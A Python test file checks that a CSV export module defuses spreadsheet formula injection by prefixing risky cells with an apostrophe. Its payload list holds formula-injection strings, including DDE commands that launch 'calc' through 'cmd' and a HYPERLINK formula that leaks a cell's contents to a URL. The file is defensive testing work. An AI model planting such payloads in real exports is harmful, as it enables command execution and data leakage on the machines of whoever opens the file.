"""No cell that we write is run by the spreadsheet that opens it, and none loses its text."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from homeroom.interop.csv_export import render_cell, render_row

RUN = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\t1", " =1", "\u00a0=1", "\ufeff=1", "\u200b=1", "=",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "=cmd|'/C calc'!A0", "|calc", "%0A=1", "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://x?"&A1)', "--1", "+-1", "\0=1", "=\x00", "\x0b=1", "\u202e=1",
)  # fmt: skip


@pytest.mark.parametrize("payload", RUN)
def test_what_could_be_run_is_written_as_text(payload: str) -> None:
    (cell,) = next(csv.reader(io.StringIO(render_row([payload]), newline="")))
    assert cell == "'" + payload.replace("\0", "")


@pytest.mark.parametrize(
    "text", ["-3.5", "+1", "410", "1e-5", "-0", "Ada", "O'Neil", "a=b", "a\n=b", "5-6", "a@example.org", ""]
)
def test_numbers_and_ordinary_texts_stay_as_they_are(text: str) -> None:
    assert next(csv.reader(io.StringIO(render_row([text, "x"]), newline="")))[0] == text


def test_missing_cells_are_empty() -> None:
    assert render_row([None, "", "x"]) == ',"","x"\r\n'


@given(
    st.lists(
        st.text(
            st.one_of(
                st.sampled_from("=+-@\t\r\n\"',; \uff1d1a"),
                st.characters(codec="utf-8", exclude_characters="\0"),
            )
        ),
        min_size=2,
    )
)
def test_rows_come_back_with_at_most_an_apostrophe_before_a_cell(cells: list[str]) -> None:
    (read,) = csv.reader(io.StringIO(render_row(cells), newline=""))
    assert all(back in {cell, f"'{cell}"} for back, cell in zip(read, cells, strict=True))


@given(st.text())
def test_quotes_never_end_a_cell_early(text: str) -> None:
    rendered = render_cell(text)
    assert rendered[0] == rendered[-1] == '"'
    assert '"' not in rendered[1:-1].replace('""', "")
